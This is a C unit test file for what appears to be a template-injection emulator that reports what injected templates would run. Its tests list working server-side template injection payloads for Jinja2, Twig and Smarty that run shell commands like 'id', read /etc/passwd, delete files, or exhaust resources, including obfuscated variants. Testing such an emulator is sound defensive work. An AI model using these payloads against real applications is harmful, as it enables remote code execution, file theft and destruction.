/* SPDX-License-Identifier: GPL-2.0-or-later */
/* What templates do beyond their values, with a server that says what it was asked; values beside real engines are in tests/engine. */
#include "emu/template/engine.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

static struct arena arena;
static struct template_outcome o;

/* Echoes what it is asked to run, so that a text shows where the answer stands. */
static int echo(void *context, enum language language, struct bytes code, struct bytes *ret)
{
	char text[512];
	int len = snprintf(text, sizeof(text), "%s[%.*s]", language_name(language), (int)code.left, (const char *)code.at);

	if (language == LANGUAGE_PYTHON) /* a type, then the value */
		len = snprintf(text, sizeof(text), "str\npython[%.*s]", (int)code.left, (const char *)code.at);
	*ret = arena_copy(context, bytes_of(text, (size_t)len), sizeof(text));
	return 0;
}

static void run_with(int (*evaluate)(struct bytes, const struct template_host *, struct arena *, struct template_outcome *), const char *text, uint64_t seed)
{
	struct template_host host = { .context = &arena, .run = echo, .seed = seed,
		.request = bytes_text("GET /page?name=x&cmd=id%20-u HTTP/1.1\r\nHost: example.net\r\nCookie: a=b\r\n\r\n") };

	arena.used = 0;
	arena.full = false;
	assert_int_equal(evaluate(bytes_text(text), &host, &arena, &o), 0);
}

static void assert_renders(int (*evaluate)(struct bytes, const struct template_host *, struct arena *, struct template_outcome *), const char *text, const char *expected)
{
	run_with(evaluate, text, 1);
	if (o.failed || o.refusals_count > 0 || !bytes_equal(o.text, bytes_text(expected)))
		fail_msg("%s: %.*s %.*s %s", text, (int)o.text.left, (const char *)o.text.at, (int)o.error.left, (const char *)o.error.at, o.refusals_count > 0 ? o.refusals[0] : "");
}

static const struct template_effect *effect(enum template_effect_kind kind, enum language language, const char *text)
{
	for (unsigned i = 0; i < o.effects_count; i++) {
		if (o.effects[i].kind == kind && o.effects[i].language == language && bytes_equal(o.effects[i].text, bytes_text(text)))
			return &o.effects[i];
	}
	return NULL;
}

static void plain_text_is_nothing_to_an_engine(void **state)
{
	(void)state;
	run_with(jinja2_evaluate, "a { b } ${7*7} <%= 1 %>", 1);
	assert_false(o.taken);
	run_with(twig_evaluate, "#{7*7}", 1);
	assert_false(o.taken);
	run_with(smarty_evaluate, "{ 7*7 }", 1);
	assert_false(o.taken);
}

static void a_product_tells_engines_apart(void **state)
{
	(void)state;
	assert_renders(jinja2_evaluate, "{{7*'7'}}", "7777777");
	assert_renders(twig_evaluate, "{{7*'7'}}", "49");
	assert_renders(smarty_evaluate, "{7*'7'}", "49");
	assert_renders(smarty_evaluate, "${7*7}", "$49");
}

static void every_way_to_a_command_ends_in_the_shell(void **state)
{
	static const char *const ways[] = {
		"{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{ lipsum.__globals__['os'].popen('id').read() }}",
		"{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
		"{{ request['application']['__globals__']['__builtins__']['__import__']('os')['popen']('id')['read']() }}",
		"{{ nothing.__class__.__init__.__globals__['__builtins__']['__import__']('os').popen('id').read() }}",
		"{{ config.__class__.from_envvar.__globals__.os.popen('i' ~ 'd').read() }}", "{{ get_flashed_messages.__globals__.sys.modules.os.popen('id').read() }}",
		"{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('__getitem__')('__builtins__')|attr('__getitem__')('__import__')('os')|attr('popen')('id')|attr('read')() }}",
		"{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen(('%c%c') % (105, 100)).read() }}",
		"{% set x = namespace.__init__.__globals__ %}{% set y = x.os.popen(['d', 'i']|reverse|join) %}{{ y.read() }}",
		"{{ ().__class__.__bases__[0].__subclasses__()[132].__init__.__globals__['popen']('id') if false else url_for.__globals__.os.popen('id').read() }}",
		"{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c.__init__.__globals__['__builtins__']['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
		"{{ ''.__class__.mro()[1].__subclasses__()[396]('id', shell=True, stdout=-1).communicate()[0].decode() }}",
	};

	(void)state;
	for (size_t i = 0; i < COUNT_OF(ways); i++) {
		assert_renders(jinja2_evaluate, ways[i], "shell[id]");
		assert_non_null(effect(TEMPLATE_RUN, LANGUAGE_SHELL, "id"));
	}
}

static void files_are_read_and_python_goes_on_in_python(void **state)
{
	(void)state;
	assert_renders(jinja2_evaluate, "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/hostname').read() }}", "path[/etc/hostname]");
	assert_renders(jinja2_evaluate, "{{ ''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read() }}", "path[/etc/passwd]");
	run_with(jinja2_evaluate, "{{ cycler.__init__.__globals__.os.listdir('/srv') }}", 1);
	assert_true(bytes_find(o.text, bytes_text("v=__import__('os').listdir('/srv')")) > 0);
	run_with(jinja2_evaluate, "{{ lipsum.__globals__.__builtins__.eval('7*7') }}", 1);
	assert_true(bytes_find(o.text, bytes_text("v=eval('7*7')")) > 0);
	run_with(jinja2_evaluate, "{% set x = cycler.__init__.__globals__.os.remove('/srv/a') %}", 1);
	assert_non_null(effect(TEMPLATE_RUN, LANGUAGE_PYTHON, "__import__('os').remove('/srv/a')"));
	run_with(jinja2_evaluate, "{{ lipsum.__globals__.__builtins__.__import__('time').sleep(3) }}", 1);
	assert_int_equal(o.effects[0].kind, TEMPLATE_SLEEP);
	assert_true(o.effects[0].value == 3000000000u);
}

static void what_the_victim_alone_knows_differs_with_it(void **state)
{
	char first[4096];

	(void)state;
	run_with(jinja2_evaluate, "{{ config }}", 1);
	assert_true(o.open);
	assert_true(bytes_find(o.text, bytes_text("<Config {")) == 0 && bytes_find(o.text, bytes_text("'SESSION_COOKIE_HTTPONLY': True")) > 0);
	snprintf(first, sizeof(first), "%.*s", (int)o.text.left, (const char *)o.text.at);
	run_with(jinja2_evaluate, "{{ config }}", 2);
	assert_false(bytes_equal(o.text, bytes_text(first)));
	assert_renders(jinja2_evaluate, "{{ request.args.cmd }}|{{ request.method }}|{{ request.cookies['a'] }}", "id -u|GET|b");
}

static void undefined_prints_nothing_and_breaks_where_it_is_used(void **state)
{
	(void)state;
	assert_renders(jinja2_evaluate, "a{{ nothing }}b", "ab");
	run_with(jinja2_evaluate, "{{ nothing.more }}", 1);
	assert_true(o.failed && !o.rejected);
	assert_true(bytes_equal(o.error, bytes_text("'nothing' is undefined")));
	run_with(jinja2_evaluate, "{{ ''.__class__.x.y }}{{ ().x.y }}", 1);
	assert_true(o.failed);
	run_with(jinja2_evaluate, "{{ 7|add:7 }}", 1);
	assert_true(o.rejected);
	assert_true(bytes_equal(o.error, bytes_text("expected token 'end of print statement', got ':'")));
}

static void callables_of_php_run_commands(void **state)
{
	(void)state;
	assert_renders(twig_evaluate, "{{ ['id']|filter('system') }}", "shell[id]Array");
	assert_renders(twig_evaluate, "{{ ['id']|map('passthru')|join }}", "shell[id]shell[id]");
	assert_renders(twig_evaluate, "{{ ['id', '']|sort('system')|join(',') }}", "shell[id]id,");
	assert_renders(twig_evaluate, "{{ ['id']|reduce('system', 'id') }}", "shell[id]shell[id]");
	assert_renders(twig_evaluate, "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}", "shell[id]");
	assert_true(o.open);
	assert_renders(smarty_evaluate, "{system('id')}", "shell[id]shell[id]");
	assert_renders(smarty_evaluate, "{'id'|passthru}", "shell[id]shell[id]");
	assert_renders(smarty_evaluate, "{fetch file='/etc/passwd'}", "path[/etc/passwd]");
	assert_renders(smarty_evaluate, "{php}echo 1;{/php}", "php[<?php echo 1;]");
	assert_renders(smarty_evaluate, "{if system('id')}{/if}", "shell[id]");
}

static void bounds_end_what_would_not_end(void **state)
{
	static const char *const endless[] = {
		"{% for a in range(20000) %}{% for b in range(20000) %}x{% endfor %}{% endfor %}", "{{ 'a' * 99999999 }}", "{{ range(999999999) }}",
		"{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", "{% set x = [1] %}{% for i in range(60) %}{% set _ = x.extend(x) %}{% endfor %}{{ x }}",
	};

	(void)state;
	for (size_t i = 0; i < COUNT_OF(endless); i++) {
		run_with(jinja2_evaluate, endless[i], 1);
		assert_true(o.bounded);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(plain_text_is_nothing_to_an_engine), cmocka_unit_test(a_product_tells_engines_apart),
		cmocka_unit_test(every_way_to_a_command_ends_in_the_shell), cmocka_unit_test(files_are_read_and_python_goes_on_in_python),
		cmocka_unit_test(what_the_victim_alone_knows_differs_with_it), cmocka_unit_test(undefined_prints_nothing_and_breaks_where_it_is_used),
		cmocka_unit_test(callables_of_php_run_commands), cmocka_unit_test(bounds_end_what_would_not_end),
	};
	enum { MEMORY = 24 << 20 };
	int r;

	arena = (struct arena){ .at = calloc(1, MEMORY), .size = MEMORY };
	r = arena.at != NULL ? cmocka_run_group_tests(tests, NULL, NULL) : 1;
	free(arena.at);
	return r;
}
